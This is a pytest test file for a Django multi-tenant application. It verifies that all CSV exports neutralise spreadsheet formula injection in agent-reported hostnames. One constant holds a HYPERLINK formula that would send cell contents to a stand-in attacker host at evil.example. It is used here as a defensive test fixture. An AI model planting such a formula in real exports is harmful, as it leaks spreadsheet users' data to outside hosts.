"""The one CSV writer: formula cells are defused in every export, whatever produced the text."""

import csv
import io

import pytest
from django_tenants.utils import tenant_context
from hypothesis import given
from hypothesis import strategies as st

from common.csvexport import FORMULA_LEADS, csv_writer, spreadsheet_safe
from tests.producers import Device, push

pytestmark = pytest.mark.django_db


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("lead", FORMULA_LEADS)
def test_each_formula_lead_is_written_as_text(lead):
    out = io.StringIO()
    csv_writer(out).writerow([f'{lead}HYPERLINK("http://x")', "plain", -5, None])
    [row] = _rows(out.getvalue())
    assert row[0] == f'\'{lead}HYPERLINK("http://x")'
    assert row[1:] == ["plain", "-5", ""]  # numbers stay numbers


@given(st.text())
def test_no_written_text_cell_starts_a_formula(value):
    assert spreadsheet_safe(value)[:1] not in FORMULA_LEADS
    out = io.StringIO()
    csv_writer(out).writerow([value, "end"])
    [row] = _rows(out.getvalue())
    assert row[0][:1] not in FORMULA_LEADS and row[-1] == "end"


EVIL = '=HYPERLINK("http://evil.example/?"&A1,"open")'


def test_exports_defuse_a_formula_the_agent_reported(tenant_a, login, personas):
    """A device whose agent reports a hostname that is a formula: the ring membership export and
    the prioritization CSV write it as text."""
    with tenant_context(tenant_a):
        device = Device(EVIL.lower().replace(" ", ""))
        device.missing_kb("KB5031111", severity="critical")
        push(device)
        hostname = device.asset.hostname
    assert hostname.startswith("=")  # stored as reported
    engineer = login(personas.engineer)
    for url in (
        "/clients/tenant-a/rings/export.csv",
        "/clients/tenant-a/api/v1/prioritization-log/?format=csv",
    ):
        response = engineer.get(url)
        assert response.status_code == 200, (url, response.status_code)
        body = b"".join(response.streaming_content) if response.streaming else response.content
        cells = [cell for row in _rows(body.decode()) for cell in row]
        assert f"'{hostname}" in cells, url
        assert not any(cell.startswith("=") for cell in cells), url


def test_every_other_export_defuses_the_hostname_too(tenant_a, login, personas, tmp_path):
    """The inventory snapshot, the exception register and the evidence bundle's CSVs."""
    import zipfile

    from django.utils import timezone

    from reports.models import StoredReport
    from reports.services import generate_report
    from tests.exceptions_register.factories import make_exception

    with tenant_context(tenant_a):
        device = Device(EVIL.lower().replace(" ", ""))
        device.missing_kb("KB5031111", severity="critical")
        push(device)
        asset = device.asset
        make_exception(client=tenant_a, approver=personas.owner_a, assets=[asset])
    hostname = asset.hostname
    engineer = login(personas.engineer)
    snapshot = engineer.post("/clients/tenant-a/api/v1/snapshots/")
    assert snapshot.status_code == 201, snapshot.content
    exports = {
        "snapshot": engineer.get(
            f"/clients/tenant-a/api/v1/snapshots/{snapshot.json()['id']}/download/?file=csv"
        ),
        "register": engineer.get("/clients/tenant-a/exceptions/export.csv"),
    }
    bodies = {}
    for name, response in exports.items():
        assert response.status_code == 200, (name, response.status_code)
        raw = b"".join(response.streaming_content) if response.streaming else response.content
        bodies[name] = raw.decode("utf-8-sig")
    with tenant_context(tenant_a):
        month = timezone.now().astimezone(tenant_a.tz).date().replace(day=1)
        generate_report(client=tenant_a, kind="bundle", period=month)
        bundle = StoredReport.objects.get(kind="bundle")
        with bundle.file.open("rb") as fh, zipfile.ZipFile(fh) as archive:
            for name in archive.namelist():
                if name.endswith(".csv"):
                    bodies[name] = archive.read(name).decode("utf-8")
    assert {"snapshot", "register", "exports/findings.csv", "evidence/events.csv"} <= set(bodies)
    for name, body in bodies.items():
        cells = [cell for row in _rows(body) for cell in row]
        assert not any(cell.startswith("=") for cell in cells), name
        if name in ("snapshot", "register", "exports/findings.csv"):
            assert any(hostname in cell for cell in cells), name
